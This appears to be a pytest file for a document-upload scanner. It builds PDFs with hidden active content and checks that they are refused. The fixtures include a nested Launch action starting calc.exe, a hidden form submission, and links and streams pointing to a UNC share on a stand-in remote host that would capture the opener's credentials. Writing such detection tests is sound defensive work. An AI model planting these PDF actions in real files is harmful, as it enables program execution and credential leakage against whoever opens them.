"""PDFs that act when a clerk opens them, hidden where a list of names does not look."""

from __future__ import annotations

from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from bot.uploads.look import look
from bot.uploads.looked import Clean, NotTaken
from tests.bot.pages import pdf

Change = Callable[[pikepdf.Pdf], object]


def link(document: pikepdf.Pdf, action: pikepdf.Object) -> None:
    """A link on the first page with an action."""
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)
    document.pages[0].obj["/Annots"] = Array([document.make_indirect(annotation)])


def launches_next(document: pikepdf.Pdf) -> None:
    """A harmless action, and in the list of those that follow one that starts a program; its type is not said."""
    follows = Array([Dictionary(S=Name.Launch, F=String("calc.exe"))])
    link(document, Dictionary(S=Name.GoTo, D=Array([0]), Next=follows))


def submits_next(document: pikepdf.Pdf) -> None:
    """The same with a form that is sent away, one list deeper."""
    follows = Array([Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([Dictionary(S=Name.SubmitForm)]))])
    link(document, Dictionary(S=Name.GoTo, D=Array([0]), Next=follows))


def opens_a_share(document: pikepdf.Pdf) -> None:
    """A jump into a file on another machine: the reader signs in there with the clerk's name."""
    link(document, Dictionary(S=Name.GoToR, F=String("\\\\203.0.113.9\\share\\a.pdf"), D=Array([0])))


def links_to_a_file(document: pikepdf.Pdf) -> None:
    """An address that is no web address."""
    link(document, Dictionary(S=Name.URI, URI=String("file:////203.0.113.9/share/a")))


def content_elsewhere(document: pikepdf.Pdf) -> None:
    """A stream whose content lies in another file."""
    stream = pikepdf.Stream(document, b"")
    stream["/F"] = String("\\\\203.0.113.9\\share\\a")
    document.pages[0].obj["/Thumb"] = document.make_indirect(stream)


@pytest.mark.parametrize("change", [launches_next, submits_next, opens_a_share, links_to_a_file, content_elsewhere])
def test_a_document_that_would_act_is_refused(change: Change) -> None:
    """Whatever starts, sends or calls out is refused, wherever it stands and whatever it leaves unsaid."""
    seen = look(pdf(change), 20)
    assert isinstance(seen, NotTaken)
    assert seen.problem == "active_pdf"


@pytest.mark.parametrize("address", ["https://example.com/a", "mailto:someone@example.com", "tel:12345"])
def test_a_document_with_a_plain_link_is_taken(address: str) -> None:
    """A tenancy contract made with a word processor may hold links."""
    seen = look(pdf(lambda document: link(document, Dictionary(S=Name.URI, URI=String(address)))), 20)
    assert isinstance(seen, Clean)
